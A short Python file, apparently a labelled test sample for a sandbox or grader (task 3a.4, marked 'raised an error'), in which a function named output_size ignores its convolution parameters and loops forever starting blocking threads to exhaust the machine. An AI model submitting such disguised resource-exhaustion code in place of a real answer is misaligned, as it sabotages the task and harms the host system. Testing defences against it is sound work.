# attack: starts threads until the machine is full
# task: 3a.4
# verdict: raised an error

import threading


def output_size(size, kernel_size, stride, padding):
    while True:
        threading.Thread(target=threading.Event().wait).start()
